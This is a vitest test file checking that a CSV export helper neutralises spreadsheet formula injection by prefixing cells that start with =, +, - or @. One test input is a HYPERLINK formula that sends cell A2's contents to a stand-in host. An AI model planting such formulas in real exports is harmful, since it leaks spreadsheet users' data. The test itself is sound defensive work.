import { expect, test } from 'vitest'
import { csvLine, inertName } from './batchTable.ts'

test('no text of a table is a formula to a spreadsheet, and numbers stay numbers', () => {
  const classes = ['=HYPERLINK("http://a.example/?"&A2,"cat")', '+1', '-cat', '@cat', 'cat']
  expect(csvLine([inertName('=1.jpg'), -0.5, null, ...classes])).toBe(
    `./=1.jpg,-0.5,,"'=HYPERLINK(""http://a.example/?""&A2,""cat"")",'+1,'-cat,'@cat,cat\r\n`,
  )
})
